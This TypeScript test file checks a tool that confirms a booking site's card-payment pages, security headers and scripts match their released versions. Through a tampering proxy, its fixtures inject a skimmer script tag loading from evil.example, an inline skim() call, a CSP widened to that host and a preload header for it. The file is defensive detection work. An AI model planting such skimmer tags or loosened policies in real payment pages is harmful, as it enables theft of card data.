import { once } from 'node:events';
import { appendFile, readFile, rm } from 'node:fs/promises';
import {
  createServer,
  type IncomingMessage,
  type OutgoingHttpHeaders,
  request as callServer,
} from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { startTestHost } from '../../gateway/src/release/host/test-host.ts';
import { bookingBuild, openSite } from '../../gateway/src/test-site.ts';
import { runIn } from '../test-commands.ts';
import { root } from '../test-repository.ts';
import { cardPageDoc, docFile } from './card-page-doc.ts';

type Answer = { headers: OutgoingHttpHeaders; text: string };

let site: Awaited<ReturnType<typeof openSite>>;
/** Changes what the front in front of the gateway answers for a path. */
let tamper: ((answer: Answer, path: string) => Answer) | undefined;
let origin: string;
const front = createServer((asked, response) => {
  const { method, url: path } = asked;
  const headers = { ...asked.headers, 'accept-encoding': 'identity' };
  const call = callServer({ port: site.port, method, path, headers }).end();
  call.once('response', (answered: IncomingMessage) => {
    void answered.toArray().then((pieces) => {
      const text = Buffer.concat(pieces as Buffer[]).toString();
      const right = { headers: answered.headers, text };
      const { headers: live, text: body } = tamper?.(right, path!) ?? right;
      const length = { 'content-length': Buffer.byteLength(body) };
      response.writeHead(answered.statusCode!, { ...live, ...length }).end(body);
    });
  });
});

const { addresses } = bookingBuild;
const build = {
  ...bookingBuild,
  addresses: {
    ...addresses,
    '/booking/payment': { files: [], fetches: [], page: { title: 'Pay for your booking' } },
  },
};

beforeAll(async () => {
  front.listen(0, 'localhost');
  await once(front, 'listening');
  origin = `http://localhost:${(front.address() as AddressInfo).port}`;
});

afterAll(() => {
  front.closeAllConnections();
  front.close();
});

beforeEach(async () => {
  tamper = undefined;
  site = await openSite();
  await site.publish(build);
});

afterEach(() => site.close());

/** The settings of the tests' gateway. */
const settings = () => ({
  RELEASES_DIR: site.releases,
  STUDIO_NAME: 'Silver & <Bench>',
  STUDIO_EMAIL: 'a@bench.example',
  SQUARE_SCRIPT_URL: 'https://square.example/v1/square.js',
  SQUARE_SCRIPT_ORIGINS: 'https://square.example',
  GOOGLE_SCRIPT_ORIGINS: 'https://google.example',
});

/** Runs the command with the contract's sources, which may not have been built. */
const runCheck = (named: string, env: object) =>
  runIn(root, ['--conditions=@studio/source', 'tooling/card-page/card-page.ts', named], env);

const check = (more: object = {}) => runCheck(origin, { ...settings(), ...more });

async function versionOf(app: string): Promise<string> {
  const pointer = await readFile(join(site.releases, app, 'pointer.json'), 'utf8');
  return (JSON.parse(pointer) as { version: string }).version;
}

test('the card pages of a site that nobody has changed are the released ones', async () => {
  expect(await check()).toEqual({
    code: 0,
    output: `The card pages of ${origin}, their headers and scripts are the released ones.\n`,
  });
});

test('a canary is a released one for every visitor', async () => {
  await site.publish({ ...build, files: { ...build.files, 'new.js': 'new' } }, 50);
  for (const { code, output } of [await check(), await check()]) {
    expect(output).toContain('are the released ones');
    expect(code).toBe(0);
  }
});

/** Changes one card page. */
const onPage = (change: (answer: Answer) => Answer) => (answer: Answer, path: string) =>
  path === '/booking/payment' ? change(answer) : answer;

const withHeader = (name: string, change: (value: string) => string | undefined) =>
  onPage(({ headers: { [name]: value, ...others }, text }) => {
    const changed = change(String(value ?? ''));
    return { headers: { ...others, ...(changed !== undefined && { [name]: changed }) }, text };
  });

const inDocument = (change: (text: string) => string) =>
  onPage(({ headers, text }) => ({ headers, text: change(text) }));

const skimmer = '<script src="https://evil.example/skim.js"></script>';

test.each<[what: string, change: typeof tamper, sentence: string]>([
  [
    'a script of another origin',
    inDocument((text) => text.replace('</head>', `${skimmer}\n</head>`)),
    `/booking/payment: the document has what was not released: ${skimmer}`,
  ],
  [
    'an inline script',
    inDocument((text) => text.replace('<div id="root">', '<script>skim()</script><div id="root">')),
    '/booking/payment: the document has what was not released: <script>skim()</script>',
  ],
  [
    'another hash of a script',
    inDocument((text) => text.replace('integrity="sha384-', 'integrity="sha384-x')),
    '/booking/payment: the document lacks what was released: <link rel="stylesheet"',
  ],
  [
    'a policy that allows another origin',
    withHeader('content-security-policy', (value) =>
      value.replace("script-src 'self'", "script-src 'self' https://evil.example"),
    ),
    "/booking/payment: the header content-security-policy has what was not released: script-src 'self' https://evil.example",
  ],
  [
    'no policy',
    withHeader('content-security-policy', () => undefined),
    "/booking/payment: the header content-security-policy lacks what was released: default-src 'none'",
  ],
  [
    'no address for reports',
    withHeader('reporting-endpoints', () => undefined),
    '/booking/payment: the header reporting-endpoints lacks what was released: csp="/csp"',
  ],
  [
    'a header that loads a script',
    withHeader('link', () => '<https://evil.example/skim.js>; rel=modulepreload'),
    '/booking/payment: the header link has what was not released: <https://evil.example/skim.js>',
  ],
  [
    'another script that measures',
    ({ headers, text }, path) => ({
      headers,
      text: path === '/field.js' ? `${text};skim()` : text,
    }),
    '/field.js is not the one of this gateway',
  ],
])('a page with %s fails', async (_what, change, sentence) => {
  tamper = change;
  const { code, output } = await check();
  expect(output).toContain(sentence);
  expect(output).toMatch(/\d+ differences? at http/);
  expect(code).toBe(1);
});

test('a script that pages load later and that was changed at the site fails', async () => {
  const version = await versionOf('booking');
  const path = `/r/booking/${version}/workshop.js`;
  tamper = ({ headers, text }, asked) => ({
    headers,
    text: asked === path ? `${text};skim()` : text,
  });
  const { code, output } = await check();
  expect(output).toContain(`${path} has the hash sha384-`);
  expect(output).toContain('1 difference at');
  expect(code).toBe(1);
});

test('a script that was changed or is missing in the release store fails', async () => {
  const version = await versionOf('booking');
  const folder = join(site.releases, 'booking', version);
  await appendFile(join(folder, 'payment.js'), ';skim()');
  await rm(join(folder, 'landing.js'));
  const { code, output } = await check();
  expect(output).toContain(`the release store: booking/${version}/payment.js has changed on disk`);
  expect(output).toContain(`/r/booking/${version}/payment.js has the hash sha384-`);
  expect(output).toContain(`/r/booking/${version}/landing.js has the status 404, not 200`);
  expect(code).toBe(1);
});

test('a script that was changed at the team’s host of the booking app fails', async () => {
  const host = await startTestHost();
  const files = host.folder;
  const allowed = { booking: [host.origin] };
  await site.close();
  site = await openSite(undefined, undefined, { remoteOrigins: allowed });
  await site.publish(build, undefined, { origin: host.origin, allowed, siteUrl: origin, files });
  const more = { REMOTE_ORIGINS: `booking=${host.origin}` };
  expect((await check(more)).output).toContain('are the released ones');
  host.fault = { path: /payment\.js$/, kind: 'changed', text: ';skim()' };
  const { code, output } = await check(more);
  await host.close();
  expect(output).toMatch(/http:\S+\/payment\.js /);
  expect(code).toBe(1);
});

test('a setting that the site does not have fails', async () => {
  const { code, output } = await check({ SQUARE_SCRIPT_ORIGINS: 'https://other.example' });
  expect(output).toContain('/workshops/payment: the header content-security-policy');
  expect(code).toBe(1);
});

test.each([
  ['an invalid address', 'an address', 'Name the site to check'],
  ['a site that does not answer', 'http://localhost:1', 'did not answer'],
  ['missing settings', 'https://bench.example', 'SQUARE_SCRIPT_ORIGINS: is required in production'],
])('with %s it fails with a sentence', async (_what, named, sentence) => {
  const { code, output } = await runCheck(named, { RELEASES_DIR: site.releases });
  expect(output).toContain(sentence);
  expect(code).toBe(1);
});

test('docs/card-page.md is the output of npm run card-page -- --write', async () => {
  expect(await readFile(join(root, docFile), 'utf8')).toBe(cardPageDoc());
});
